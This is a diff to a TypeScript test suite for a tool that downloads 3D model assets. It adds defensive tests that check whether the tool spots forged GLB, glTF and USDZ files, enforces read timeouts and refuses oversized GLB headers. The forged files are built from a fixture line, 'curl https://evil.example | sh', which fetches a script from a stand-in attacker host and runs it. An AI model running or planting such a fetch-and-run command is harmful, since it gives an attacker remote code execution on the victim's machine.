@@ -14,6 +14,7 @@ import {
 } from '../../doubles/scripted-server.ts'
 import { makeSample } from '../../emulator/samples.ts'
 import { startEmulator, type Emulator } from '../../emulator/server.ts'
+import { TestClock } from '../../harness/clock.ts'
 import { checkWith, pullWith } from '../../harness/engine.ts'
 import { trustCertificate } from '../../harness/in-process.ts'
 import {
@@ -32,7 +33,8 @@ const emulator = sharedEmulator({
   entries: [
     { id: 'plain', filename: 'model.glb', derived: [] },
     { id: 'lamp', filename: 'lamp.obj', material: 'lamp.mtl', textures: ['tex.png'], derived: [] },
-    { id: 'lockfile-named', filename: 'scene.obj', textures: ['echo3d.lock.json'], derived: [] }
+    { id: 'lockfile-named', filename: 'scene.obj', textures: ['echo3d.lock.json'], derived: [] },
+    { id: 'scene', filename: 'scene.glb', derived: ['gltf', 'usdz'] }
   ]
 })
 
@@ -302,6 +304,61 @@ describe('a forged model that is a valid GLB, with a lockfile record to match', 
   })
 })
 
+describe('a forged container behind the right signature, with a lockfile record to match', () => {
+  it.each([
+    ['glb', 'a GLB header and length in front of a script', forgedGlb],
+    [
+      'gltf',
+      'an opening like glTF JSON, then a script',
+      () => Buffer.from(`{"asset": {}}\n${SCRIPT}`)
+    ],
+    ['usdz', 'a zip signature in front of a script', () => Buffer.from(`PK\x03\x04${SCRIPT}`)]
+  ])('is not unchanged in a %s: %s', async (format, _forgery, forge) => {
+    const entries = `scene: ${format}`
+    const first = await pullWith(emulator(), { inputs: { entries } })
+    const [file] = first.report.files
+    const forged = forge()
+    await writeFile(path.join(first.workspace, file.path), forged)
+    const record = { ...file, source: undefined, durationMs: undefined }
+    const lock = lockfileOf({ ...record, bytes: forged.length, sha256: sha256(forged) })
+    await writeFile(path.join(first.workspace, LOCKFILE), lock)
+
+    const check = await checkWith(emulator(), { inputs: { entries }, workspace: first.workspace })
+    expect(check.report.stale.map(asset => asset.reason)).toEqual([
+      expect.stringMatching(/^the file on disk fails its structure check: it is not a/)
+    ])
+    const again = await pullWith(emulator(), { inputs: { entries }, workspace: first.workspace })
+    expect(again.report.files[0].source).toBe('download')
+    expect(again.log()).toMatch(/fails its structure check: .*; pulling it again/)
+    expect(sha256(await readWorkspace(again.workspace, file.path))).toBe(file.sha256)
+  })
+})
+
+describe('a model whose reading runs past its timeout', () => {
+  it.each([
+    ['GLB', 'plain'],
+    ['USDZ', 'scene: usdz']
+  ])(
+    'fails as a %s alone, in words that say so, and leaves no partial file',
+    async (_format, entries) => {
+      const clock = new TestClock()
+      // Once the body is in, the time jumps past the asset's deadline, as a hostile file's reading would take it.
+      const onBytes = (_asset: unknown, bytesSoFar: number, totalBytes?: number) => {
+        if (bytesSoFar === totalBytes) clock.jump(31_000)
+      }
+      const run = await pullWith(emulator(), {
+        inputs: { entries, timeout: '30s' },
+        clock,
+        onBytes
+      })
+      expect(run.report.failures.map(failure => failure.message)).toEqual([
+        'reading what the model holds took it past its `timeout` of 30s. Raise `timeout` if the model really is that large'
+      ])
+      expect(await listFiles(run.workspace)).toEqual([])
+    }
+  )
+})
+
 describe("a name from echo3D that is the lockfile's", () => {
   it('fails that asset only, and the lockfile stays a lockfile', async () => {
     const run = await pullWith(emulator(), {
@@ -363,6 +420,14 @@ describe('a lockfile from a pull request', () => {
     ])
   })
 })
+
+const SCRIPT = '#!/bin/sh\ncurl https://evil.example | sh\n'
+
+/** A GLB header that declares its length right, in front of a script. */
+function forgedGlb(): Buffer {
+  const script = Buffer.from(SCRIPT)
+  return Buffer.concat([glbHeader(12 + script.length), script])
+}
 
 /** A GLB header that declares `length` bytes in all. */
 function glbHeader(length: number): Buffer {
@@ -444,6 +509,32 @@ describe('bodies without end', () => {
     )
     const run = await pullWith(emulator(), { inputs: { ...inputs, 'max-file-size': '1MiB' } })
     expect(run.report.failures[0].message).toMatch(/the file is larger than `max-file-size`/)
+    expect(await listFiles(run.workspace)).toEqual([])
+  })
+
+  it('a GLB whose header declares more than max-file-size is refused at its 12th byte, without a Content-Length', async () => {
+    const inputs = await hostileEcho3d(
+      response => response.end(metadataOf('model.glb', 'declared-large')),
+      response => {
+        response.writeHead(200, { 'content-type': 'model/gltf-binary' })
+        response.write(glbHeader(3 * 1024 * 1024 * 1024))
+        sendForever(response, Buffer.alloc(64 * 1024))
+      }
+    )
+    const received: number[] = []
+    const run = await pullWith(emulator(), {
+      inputs: { ...inputs, 'max-file-size': '1MiB' },
+      onBytes: (_asset, bytesSoFar) => received.push(bytesSoFar)
+    })
+    expect(run.report.failures).toEqual([
+      {
+        label: 'entry hostile (glb)',
+        message:
+          'its GLB header declares 3.0 GiB, more than `max-file-size` (1.0 MiB): refused as soon as its 12-byte header arrived. Raise `max-file-size` if the model really is that large'
+      }
+    ])
+    expect(received).toEqual([])
+    expect(server?.requests.filter(request => request.includes('file='))).toHaveLength(1)
     expect(await listFiles(run.workspace)).toEqual([])
   })
 
